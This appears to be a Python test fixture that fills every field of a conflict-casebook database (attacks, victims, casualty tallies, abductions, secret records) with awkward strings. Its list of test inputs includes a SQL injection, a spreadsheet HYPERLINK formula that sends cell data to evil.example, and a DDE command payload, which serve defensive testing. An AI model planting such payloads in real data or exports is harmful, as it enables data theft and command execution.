"""A casebook with a record of every kind and every field filled, in as ugly words as there are."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

from db.model.changes import Change, new_id
from db.model.entities import ENTITIES
from db.model.fields import (
    AnyLink,
    Choice,
    Choices,
    Country,
    Date,
    Decimal,
    Field,
    Flag,
    Integer,
    Link,
    Number,
    Record,
    Stamp,
    Text,
    Time,
    Value,
)
from db.storage.casebook import Casebook

UGLY = (
    "Aïcha Ouédraogo à Ménaka, « œuvre » n° 7 – ’été’",
    "هجوم على قرية أوغوتا في ٢٧ يناير",
    "👩🏾‍🌾 burned 🏚️🔥, e\u0301 and é differ",
    "'; DROP TABLE attack; --",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "' quoted already",
    "two\nlines\r\nand three\rwith \"marks\" ; , | \t ends",
    "  blanks on both sides  ",
    "\u202eright to left\u202c \u200bno width \u2028 line \ufeff mark",
    "007",
    "2024-01-06",
    "NULL",
    "0",
    "x" * 10_000,
    "\u00a0x",
    "𝔘𐍈\U0010fffd",
)  # fmt: skip
POINT = -5.1119200000000004


class Rich:
    """Makes records, each field of each filled."""

    def __init__(self, words: Iterator[str]) -> None:
        self.words = words
        self.changes: list[Change] = []

    def add(self, entity: str, /, **fixed: Value) -> str:
        """Make a record, return its id; links are left empty unless given."""
        described = ENTITIES[entity]
        values: Record = {}
        for field in described.fields:
            values[field.name] = fixed.pop(field.name) if field.name in fixed else self._some(field)
        assert not fixed, f"{entity} has no {list(fixed)}"
        id = new_id()
        self.changes.append(Change(entity, id, None, values))
        return id

    def _some(self, field: Field) -> Value:
        if isinstance(field, AnyLink | Link):
            return None
        if isinstance(field, Number):
            return int(field.vocabulary.codes[1].code)
        if isinstance(field, Choice):
            return field.vocabulary.codes[0].code
        if isinstance(field, Choices):
            return field.store([code.code for code in field.vocabulary.codes[:3]])
        if isinstance(field, Decimal):
            return POINT if field.low < POINT else 0.1 + 0.2 if field.high <= 1 else 1e-07
        if isinstance(field, Integer):
            return 7
        if isinstance(field, Flag):
            return 0
        if isinstance(field, Date):
            return "2024-01-05/2024-01-06"
        if isinstance(field, Stamp):
            return "2024-05-08T14:32:07Z"
        if isinstance(field, Time):
            return "05:30"
        if isinstance(field, Country):
            return "MLI"
        assert isinstance(field, Text), field
        return next(self.words)


def rich(words: Iterator[str] | None = None, *, secret: bool = True) -> list[Change]:
    """Return the making of a record of every kind; with `secret`, also records that must not leave."""
    make = Rich(words or cycle(UGLY))
    add = make.add
    # The name of nobody else: text that leaves is looked through for it.
    contact = add("contact", real_name="Kept Athome") if secret else None
    source = add("source", contact_id=contact)
    article = add("source", derived_from_id=source, credibility=None, risk_note=None)
    place = add("place", predominant_group_source_id=article)
    army = add("actor")
    actor = add("actor", parent_id=army, active_from=None, aliases=None)
    attack = add("attack")
    other = add("attack", code=None, summary=None)
    add("attack", duplicate_of_id=attack)
    victim = add("victim")
    second = add("victim", birth_edtf=None, name=None)
    add("victim", duplicate_of_id=victim)
    at = add("attack_place", attack_id=attack, place_id=place, is_primary=1)
    add("attack_place", attack_id=other, place_id=place, lat=None, lon=None)
    add("involvement", attack_id=attack, actor_id=actor, source_id=source)
    killed = add(
        "tally",
        attack_id=attack,
        attack_place_id=at,
        measure="killed",
        part_role=None,
        unit="person",
        low=13,
        best=14,
        high=None,
        rule="manual",
    )
    add(
        "tally",
        attack_id=attack,
        measure="killed",
        parent_tally_id=killed,
        part_role="subset",
        unit="person",
        low=2,
        best=2,
        high=2,
        age_group="child",
        rule=None,
        adopted_by=None,
        adopted_at=None,
    )
    taken = add(
        "tally", attack_id=attack, measure="abducted", part_role=None, unit="person", low=24, best=24, high=24
    )
    freed = add(
        "tally",
        attack_id=attack,
        measure="abducted",
        parent_tally_id=taken,
        part_role="partition",
        unit="person",
        low=10,
        best=10,
        high=10,
    )
    later = add("figure", tally_id=killed, source_id=article)
    add(
        "figure",
        tally_id=killed,
        source_id=source,
        superseded_by_id=later,
        low=1,
        best=None,
        high=9,
        status="superseded",
    )
    harm = add("harm", attack_id=attack, victim_id=victim, tally_id=killed)
    held = add("harm", attack_id=attack, victim_id=second, tally_id=taken, parent_harm_id=harm)
    group = add(
        "abduction",
        attack_id=attack,
        tally_id=taken,
        taken_place_id=place,
        captor_actor_id=actor,
        last_seen_place_id=place,
        code=None,
    )
    add("abduction", attack_id=attack, harm_id=held)
    event = add("custody_event", abduction_id=group, outcome_tally_id=freed, place_id=place, source_id=source)
    for entity, id in (("attack", attack), ("victim", victim), ("custody_event", event), ("figure", later)):
        add("citation", entity=entity, entity_id=id, source_id=source)
        add("comment", entity=entity, entity_id=id)
        add("waived_warning", entity=entity, entity_id=id, by=None, at=None)
    add("attack_link", from_id=attack, to_id=other, link_type="same_cycle", source_id=article)
    series = add("cycle")
    add("cycle_attack", attack_id=attack, cycle_id=series)
    add("legal_qualification", attack_id=attack, source_id=source)
    photo = add("attachment", captured_place_id=place, sha256="ab" * 32)
    add("attachment_link", entity="harm", entity_id=harm, attachment_id=photo)
    add("custody_log", attachment_id=photo)
    add("duplicate_candidate", entity="attack", entity_id=attack, other_id=other)
    if secret:
        _secrets(make, attack, article, place, actor)
    return make.changes


def _secrets(make: Rich, attack: str, article: str, place: str, actor: str) -> None:
    """Add what must not leave, with parts of it and links to it; every text of it says SECRET."""
    open_words, make.words = make.words, cycle(["SECRET"])
    add = make.add
    hidden = add("attack", sensitivity=3)
    add("attack", duplicate_of_id=hidden)
    add("attack_place", attack_id=hidden, place_id=place)
    toll = add("tally", attack_id=hidden, part_role=None, unit="person")
    add("figure", tally_id=toll, source_id=article)
    add("attack_link", from_id=attack, to_id=hidden)
    child = add("victim", sensitivity=3)
    add("victim", duplicate_of_id=child)
    tally = add("tally", attack_id=attack, part_role=None, unit="person", **TEXTS["tally"])
    harm = add("harm", attack_id=attack, victim_id=child, tally_id=tally)
    held = add("abduction", attack_id=attack, harm_id=harm)
    add("custody_event", abduction_id=held)
    witness = add("source", sensitivity=3)
    add("figure", tally_id=tally, source_id=witness)
    add("citation", entity="attack", entity_id=attack, source_id=witness)
    add("comment", entity="victim", entity_id=child)
    add(
        "comment",
        entity="citation",
        entity_id=add("citation", entity="harm", entity_id=harm, source_id=article),
    )
    party = add("involvement", attack_id=attack, actor_id=actor, source_id=witness, **TEXTS["involvement"])
    add("citation", entity="involvement", entity_id=party, source_id=article, field="named_individuals")
    make.words = open_words


# Of a record that leaves though it is made among the secrets: texts that are none.
TEXTS: dict[str, dict[str, Value]] = {
    "tally": {"rationale": "open", "adopted_by": "open"},
    "involvement": {"alt_group": "open", "composition_reported": "open"},
}


def write(casebook: Casebook, *, secret: bool = True) -> None:
    """Write it."""
    casebook.load(rich(secret=secret))
